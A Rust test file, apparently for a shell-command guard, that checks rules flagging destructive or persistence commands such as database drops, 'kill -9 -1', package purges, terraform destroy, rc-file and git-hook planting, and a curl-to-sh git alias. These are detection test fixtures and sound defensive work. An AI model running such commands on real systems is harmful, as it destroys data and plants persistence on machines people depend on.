use std::path::Path;

use toolgate_core::packs::{PACKS, rule};

// Items of other layers come through `super` (imported there under `cfg(test)`).
use super::*;

/// Shell builtins a matcher names: they have no row in the program table.
const BUILTINS: &[&str] = &["unset", "export", "set"];

fn rules(cmd: &str) -> Vec<&'static str> {
    let cx = CommandContext::new(
        Some(Path::new("/home/me/project")),
        Some(Path::new("/home/me")),
    );
    evaluate_packs(&analyze(cmd), &cx)
        .into_iter()
        .map(|m| m.rule_id)
        .collect()
}

#[test]
fn every_matcher_names_a_rule_of_a_pack_matched_here() {
    for m in all_matchers() {
        let (pack, _) = rule(m.rule).unwrap_or_else(|| panic!("{} is no pack rule", m.rule));
        assert!(
            PACKS_WITH_COMMAND_MATCHERS.contains(&pack.name),
            "{}: pack {} is not listed as matched here",
            m.rule,
            pack.name
        );
        assert!(
            !m.programs.is_empty() || m.check.is_some(),
            "{}: a matcher of every program needs a check",
            m.rule
        );
    }
    for name in PACKS_WITH_COMMAND_MATCHERS {
        let pack = PACKS.iter().find(|p| p.name == *name).expect("a pack");
        for r in pack.rules {
            assert!(
                all_matchers().any(|m| m.rule == r.id)
                    || RULES_MATCHED_BY_THE_ENGINE.contains(&r.id),
                "{} has no matcher",
                r.id
            );
        }
    }
    for id in RULES_MATCHED_BY_THE_ENGINE {
        assert!(rule(id).is_some(), "{id} is no pack rule");
        assert!(
            all_matchers().all(|m| m.rule != *id),
            "{id} has a matcher too"
        );
    }
}

#[test]
fn every_program_has_a_row_with_its_options() {
    for m in all_matchers() {
        for p in m.programs {
            assert_eq!(*p, p.to_ascii_lowercase(), "{p}");
            assert!(
                BUILTINS.contains(p) || lookup(p).is_some(),
                "{}: {p} has no row in the program table",
                m.rule
            );
        }
        for step in m.path {
            for w in *step {
                assert!(!w.starts_with('-'), "{}: path word {w}", m.rule);
            }
        }
    }
}

#[test]
fn long_options_the_matchers_test_resolve_to_themselves() {
    // A flag that is a prefix of a value option in the spec would be read as that option
    // (and take the next word): the spec must list it.
    for m in all_matchers() {
        let options = m.any.iter().chain(m.none);
        for name in options {
            let Some(long) = name.strip_prefix("--") else {
                continue;
            };
            let specs = m
                .programs
                .iter()
                .filter_map(|p| lookup(p).map(|row| row.options))
                .chain(m.spec);
            for spec in specs {
                let known: Vec<&str> = spec
                    .long_val
                    .iter()
                    .chain(spec.long_flags.iter())
                    .copied()
                    .collect();
                let meant = resolve_long(long, &known);
                assert!(
                    meant.is_empty() || meant == [long],
                    "{}: --{long} reads as {meant:?}",
                    m.rule
                );
            }
        }
    }
}

#[test]
fn global_options_and_their_values_come_before_the_path() {
    assert_eq!(
        rules("kubectl --context prod -n app delete ns x"),
        ["TG-K8S-DELETE-CRITICAL"]
    );
    assert_eq!(
        rules("aws --profile s3 --region rm s3 rm s3://b --recursive"),
        ["TG-CLOUD-AWS-S3-DELETE"]
    );
    assert_eq!(
        rules("terraform -chdir=infra destroy -auto-approve"),
        ["TG-IAC-DESTROY"]
    );
    assert_eq!(
        rules("terraform apply -destroy -auto-approve"),
        ["TG-IAC-DESTROY"]
    );
    assert!(rules("terraform apply -destroy=false").is_empty());
    assert!(rules("terraform plan -destroy").is_empty());
    // A value that looks like a path word is a value.
    assert!(rules("helm -n delete list").is_empty());
    assert!(rules("kubectl get ns --context delete").is_empty());
}

#[test]
fn kinds_read_lists_and_names() {
    for cmd in [
        "kubectl delete ns/prod",
        "kubectl delete pod,namespace x",
        "kubectl delete crd.apiextensions.k8s.io/x",
        "kubectl delete -n app PVC data",
    ] {
        assert_eq!(rules(cmd), ["TG-K8S-DELETE-CRITICAL"], "{cmd}");
    }
    assert!(rules("kubectl delete pod nsx").is_empty());
    assert!(rules("kubectl delete --dry-run=client ns x").is_empty());
}

#[test]
fn run_time_words_never_make_a_path() {
    assert!(rules("terraform $ACTION -auto-approve").is_empty());
    assert!(rules("kubectl \"$VERB\" ns x").is_empty());
}

#[test]
fn containers_from_a_full_listing() {
    assert_eq!(
        rules("docker rm -f $(docker ps -aq)"),
        ["TG-CONTAINER-REMOVE-ALL"]
    );
    assert_eq!(
        rules("docker ps -a -q | xargs docker rm"),
        ["TG-CONTAINER-REMOVE-ALL"]
    );
    assert!(rules("docker rm $(docker ps -aq -f status=exited)").is_empty());
    assert!(rules("docker rm $(docker ps -q)").is_empty());
    assert_eq!(
        rules("docker image prune -a"),
        ["TG-CONTAINER-SYSTEM-PRUNE"]
    );
    assert_eq!(
        rules("docker container prune"),
        ["TG-CONTAINER-SYSTEM-PRUNE"]
    );
}

#[test]
fn kill_reads_its_signal_first() {
    for cmd in [
        "kill -9 -1",
        "kill -- -1",
        "kill -s KILL -1",
        "kill -TERM -1",
    ] {
        assert_eq!(rules(cmd), ["TG-HOST-KILL-ALL"], "{cmd}");
    }
    for cmd in [
        "kill -1",
        "kill -1 1234",
        "kill -0 -1",
        "kill -CONT -1",
        "kill -l",
    ] {
        assert!(rules(cmd).is_empty(), "{cmd}");
    }
}

#[test]
fn commands_no_pack_names_walk_no_pack() {
    assert!(rules("ls -la; cargo test; git status").is_empty());
    assert!(!INDEX.by_program.contains_key("ls"));
    assert!(INDEX.any_program.iter().all(|m| m.check.is_some()));
}

#[test]
fn every_data_loss_is_stopped_by_the_rule_its_catalog_row_names() {
    use toolgate_core::datastore::DATA_LOSS_KINDS;
    for info in DATA_LOSS_KINDS {
        let rules: Vec<&str> = databases::LOSSES
            .iter()
            .filter(|(_, losses)| losses.contains(&info.kind))
            .map(|(rule, _)| *rule)
            .collect();
        assert_eq!(rules, [info.rule], "{}", info.name);
    }
    for (rule, _) in databases::LOSSES {
        assert!(
            all_matchers().any(|m| m.check == Some(Check::Loses(rule))),
            "{rule} has no matcher of losses"
        );
    }
}

#[test]
fn database_clients_through_wrappers_and_options() {
    for cmd in [
        "sudo -u postgres psql -h db -U app -d app -c 'DROP TABLE t'",
        "env PGPASSWORD=x timeout 30 psql -c 'drop database app'",
        "bash -c \"psql -c 'DROP SCHEMA s CASCADE'\"",
        "docker exec -i db psql -U app -c 'DROP TABLE t'",
        "docker exec -i db psql -U app <<'EOF'\nDROP TABLE t;\nEOF",
        "kubectl exec -it pg-0 -n data -- psql -c 'DROP TABLE t'",
        "docker compose exec -T db psql -U postgres -c 'DROP TABLE t'",
        "docker compose -f dev.yml exec db psql <<'EOF'\nDROP TABLE t;\nEOF",
        "docker-compose run --rm -e X=1 db psql -h db -c 'DROP TABLE t'",
        "mysql -u root -p app -e 'DROP TABLE t'",
        "sqlite3 -bail app.db 'DROP TABLE t'",
    ] {
        assert_eq!(rules(cmd), ["TG-DB-DROP"], "{cmd}");
    }
    assert_eq!(
        rules("redis-cli -h cache -n 2 FLUSHDB"),
        ["TG-DB-KEYSTORE-WIPE"]
    );
    assert_eq!(
        rules("echo 'db.users.deleteMany({})' | mongosh app"),
        ["TG-DB-MONGO-DROP"]
    );
    assert_eq!(
        rules("psql <<EOF\nTRUNCATE a;\nUPDATE b SET x = 1;\nEOF"),
        ["TG-DB-TRUNCATE", "TG-DB-UNSCOPED-WRITE"]
    );
    for cmd in [
        "psql -c 'SELECT 1'",
        "psql -c \"SELECT 'DROP TABLE t'\"",
        "psql -f migrate.sql",
        "redis-cli GET flushall",
        "mongosh --eval 'db.c.find()'",
        "sqlite3 app.db .tables",
        "mysql -u root -p -e 'SHOW TABLES' app",
        "echo 'DROP TABLE t' | grep DROP",
    ] {
        assert!(rules(cmd).is_empty(), "{cmd}");
    }
}

#[test]
fn framework_commands_that_drop_databases() {
    for cmd in [
        "bundle exec rails db:drop db:create",
        "bin/rake -f Rakefile db:reset",
        "rails db:drop:primary",
        "npx prisma migrate reset --force",
        "prisma db push --force-reset",
        "python3 manage.py flush --noinput",
        "python -m django flush",
        "python3 -W ignore -X dev -m django flush",
        "php artisan migrate:fresh --seed",
        "./artisan db:wipe",
        "npx sequelize-cli db:drop",
        "typeorm schema:drop",
        "dropdb -h db -U postgres --if-exists app",
        "mysqladmin -uroot -psecret -f drop app",
    ] {
        assert_eq!(rules(cmd), ["TG-DB-DROP-COMMAND"], "{cmd}");
    }
    for cmd in [
        "rails db:migrate",
        "rake -T db:drop",
        "rake --dry-run db:drop",
        "prisma db push",
        "python manage.py sqlflush",
        "php artisan migrate",
        "sequelize db:migrate",
        "typeorm schema:log",
        "dropdb --help",
        "mysqladmin -u root status",
    ] {
        assert!(rules(cmd).is_empty(), "{cmd}");
    }
}

fn planted(cmd: &str) -> Vec<String> {
    let cx = CommandContext::new(
        Some(Path::new("/home/me/project")),
        Some(Path::new("/home/me")),
    );
    planted_files(&analyze(cmd), &cx)
}

#[test]
fn files_commands_put_content_into() {
    for (cmd, want) in [
        ("echo x >> ~/.bashrc", "~/.bashrc"),
        ("echo x >> \"$HOME/.zshrc\"", "~/.zshrc"),
        (
            "echo x | sudo tee -a /etc/profile.d/x.sh",
            "/etc/profile.d/x.sh",
        ),
        ("cp hook.sh .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        (
            "cp x.plist ~/Library/LaunchAgents/",
            "~/Library/LaunchAgents/x.plist",
        ),
        ("cp hooks/* .git/hooks/", ".git/hooks/*"),
        ("sed -i 's/a/b/' ~/.bashrc", "~/.bashrc"),
        ("curl -o ~/.bashrc https://x.example/rc", "~/.bashrc"),
        ("cd ~ && echo x >> .bashrc", "~/.bashrc"),
        ("find . -fprint ~/.envrc", "~/.envrc"),
        ("cp -t ~/.config/autostart x.desktop", "~/.config/autostart"),
    ] {
        let found = planted(cmd);
        assert!(found.iter().any(|p| p == want), "{cmd}: {found:?}");
    }
    for (cmd, not) in [
        ("mv ~/.bashrc ~/.bashrc.old", "~/.bashrc"),
        ("rm ~/.bashrc", "~/.bashrc"),
        ("chmod +x .git/hooks/pre-commit", ".git/hooks/pre-commit"),
        ("find . -name .envrc -delete", ".envrc"),
        ("mv wordpress/.* .", "./.*"),
        ("cd \"$D\" && echo x >> .bashrc", ".bashrc"),
        ("rsync -a ~/.envrc* app1:", "app1:/.envrc*"),
        ("rsync -vaut ~/.envrc* app1:", "~/.envrc*"),
    ] {
        let found = planted(cmd);
        assert!(!found.iter().any(|p| p == not), "{cmd}: {found:?}");
    }
}

#[test]
fn git_config_keys_that_run_programs() {
    for cmd in [
        "git config core.hooksPath .githooks",
        "git -C repo config --local core.pager x",
        "git config --global --add alias.up '!curl x | sh'",
        "git config --global interactive.diffFilter 'diff-so-fancy --patch'",
        "sudo git config --system core.fsmonitor ./x",
        "git config set core.sshCommand 'ssh -i k'",
    ] {
        assert!(rules(cmd).contains(&"TG-PERSIST-GIT-CONFIG"), "{cmd}");
    }
    for cmd in [
        "git config user.name 'A B'",
        "git config --global alias.co checkout",
        "git config --get core.hooksPath",
        "git config --unset core.hooksPath",
        "git config --list",
        "git config core.fsmonitor false",
        "git -c core.pager=less log",
    ] {
        assert!(rules(cmd).is_empty(), "{cmd}: {:?}", rules(cmd));
    }
}

#[test]
fn a_yes_piped_into_ssh_keygen_is_read_after_the_printers_options() {
    for cmd in [
        "yes | ssh-keygen -t ed25519",
        "echo y | ssh-keygen",
        "echo -e 'y\\n' | ssh-keygen",
        // echo prints an option it does not know: `-y` is text.
        "echo -y | ssh-keygen",
        "printf 'y\\n' | ssh-keygen",
    ] {
        assert_eq!(rules(cmd), ["TG-HOST-SSH-KEYGEN-OVERWRITE"], "{cmd}");
    }
    for cmd in [
        "echo | ssh-keygen",
        "echo -n | ssh-keygen",
        "printf -v yes '\\n' | ssh-keygen",
        "echo y | ssh-keygen -l -f key",
    ] {
        assert!(rules(cmd).is_empty(), "{cmd}");
    }
}

/// Commands for the precheck test: every matcher's programs with its subcommand path (in
/// capitals too, after an option, and with the path cut short), and the commands of the
/// real-world, dcg and cc-safety-net corpora.
fn precheck_commands() -> Vec<String> {
    let mut out = Vec::new();
    for m in all_matchers() {
        let path: Vec<&str> = m
            .path
            .iter()
            .filter_map(|step| step.first().copied())
            .collect();
        for program in m.programs.iter().take(2) {
            let words = path.join(" ");
            out.push(format!("{program} {words} x"));
            out.push(format!("{program} -v {} x", words.to_ascii_uppercase()));
            out.push(format!("{program} --force {words} -- y"));
            if let Some(first) = path.first() {
                out.push(format!("{program} {first}"));
            }
            out.push(format!("{program} x {words}"));
        }
    }
    // Shell history files as operands, as options' values and as the whole path.
    for program in [
        "rm", "shred", "unlink", "truncate", "ln", "cp", "mv", "RM", "cat",
    ] {
        for file in crate::knowledge::history::SHELL_HISTORY_FILES {
            out.push(format!("{program} -f ~/{file}"));
            out.push(format!("{program} -s 0 {file} x"));
            out.push(format!("{program} -- -{file} /x/{file}.bak"));
            out.push(format!("{program} --suffix={file} y"));
        }
    }
    out.extend(toolgate_corpora::shell_commands());
    out
}

/// Asking a matcher's subcommand words before reading its view changes no match.
#[test]
fn the_subcommand_precheck_changes_no_match() {
    let contexts = [
        CommandContext::new(
            Some(Path::new("/home/me/project")),
            Some(Path::new("/home/me")),
        ),
        CommandContext::default(),
    ];
    let (mut commands, mut matched) = (0usize, 0usize);
    for command in precheck_commands() {
        let analysis = analyze(&command);
        for cx in &contexts {
            let ids = |precheck| -> Vec<&'static str> {
                evaluate_packs_with(&analysis, cx, precheck)
                    .into_iter()
                    .map(|m| m.rule_id)
                    .collect()
            };
            let full = ids(false);
            assert_eq!(ids(true), full, "{command:?}");
            matched += usize::from(!full.is_empty());
        }
        commands += 1;
    }
    println!("pack precheck: {commands} commands, {matched} matching analyses, all alike");
    assert!(matched > 200, "only {matched} analyses matched a pack rule");
}

/// Every path of the home credentials passes the byte test that lets `loses_credentials` skip
/// a command: each pattern's path, written from the home (`~/…`) or the root, and with
/// `$HOME`.
#[test]
fn every_home_credential_may_be_named() {
    use toolgate_core::path_class::pattern::Anchor;
    use toolgate_core::path_class::secrets::{HOME_CREDENTIALS, SECRET_SOURCES};
    let mut checked = 0;
    for info in SECRET_SOURCES
        .iter()
        .filter(|i| HOME_CREDENTIALS.contains(&i.source))
    {
        for p in info.patterns {
            let parts = p.parts.join("/").replace(['*', '?'], "x");
            let written = match p.anchor {
                Anchor::Home => vec![format!("~/{parts}"), format!("$HOME/{parts}")],
                Anchor::Root => vec![format!("/{parts}")],
                Anchor::Anywhere => vec![parts.clone(), format!("dir/{parts}")],
            };
            for w in written {
                assert!(super::host::may_name_credential(w.as_bytes()), "{w}");
                checked += 1;
            }
        }
    }
    assert!(checked >= 20, "{checked}");
    for plain in ["build/", "-rf", "src/main.rs", "~", "$HOME", "node_modules"] {
        assert!(
            !super::host::may_name_credential(plain.as_bytes()),
            "{plain}"
        );
    }
}

/// A package pattern (`'*'`, `'lib*'`, apt's `'.*'`) expands to every installed package it
/// matches, core ones among them; a pattern that matches none of them is routine.
#[test]
fn package_patterns_that_match_core_packages_are_core_removals() {
    for cmd in [
        "sudo apt-get purge -y '*'",
        "apt remove 'lib*'",
        "apt-get remove '.*'",
        "dnf remove -y '*'",
        "yum remove 'kernel*'",
        "apt-get remove 'sys?emd'",
    ] {
        assert!(
            rules(cmd).contains(&"TG-HOST-CORE-PACKAGE-REMOVE"),
            "{cmd}: {:?}",
            rules(cmd)
        );
    }
    for cmd in [
        "apt-get remove 'python3-*'",
        "apt-get purge 'libreoffice*'",
        "dnf remove 'kernel-devel*'",
        "apt-get remove nodejs",
    ] {
        assert!(
            !rules(cmd).contains(&"TG-HOST-CORE-PACKAGE-REMOVE"),
            "{cmd}: {:?}",
            rules(cmd)
        );
    }
}

#[test]
fn storage_syncs_read_their_delete_options_and_destination() {
    const SYNC: &str = "TG-CLOUD-STORAGE-SYNC-DELETE";
    // az deletes unless told `false` (its default is `true`); a value read as a separate
    // word is the option's, whatever its case.
    assert_eq!(rules("az storage blob sync -s d -c c"), [SYNC]);
    assert_eq!(
        rules("az storage blob sync -s d -c c --delete-destination prompt"),
        [SYNC]
    );
    assert!(rules("az storage blob sync -s d -c c --delete-destination FALSE").is_empty());
    // azcopy deletes only when told to; `false` given either way is no delete.
    assert!(rules("azcopy sync d https://a.blob.core.windows.net/c").is_empty());
    assert!(
        rules("azcopy sync d https://a.blob.core.windows.net/c --delete-destination false")
            .is_empty()
    );
    assert_eq!(
        rules("azcopy sync d https://a.blob.core.windows.net/c --delete-destination true"),
        [SYNC]
    );
    // The destination is read after the options' values: a value is no operand, and a
    // destination only known at run time may be a bucket.
    assert_eq!(
        rules("gsutil -i sa@p.iam.gserviceaccount.com rsync -x tmp -d -r d gs://b"),
        [SYNC]
    );
    assert!(rules("gsutil rsync -d -r gs://b ./mirror").is_empty());
    assert_eq!(rules("s3cmd sync --delete-removed d \"$DEST\""), [SYNC]);
    assert!(rules("s3cmd sync --delete-removed s3://b ./mirror").is_empty());
    // s3cmd takes long options abbreviated; a value option's value is no operand.
    assert_eq!(
        rules("s3cmd sync --delete-rem --exclude x d s3://b"),
        [SYNC]
    );
    assert_eq!(rules("b2 sync --keepDays 3 --delete d b2://b"), [SYNC]);
    // rsync's `-n` is its dry run.
    assert!(rules("gsutil rsync -n -d -r d gs://b").is_empty());
}
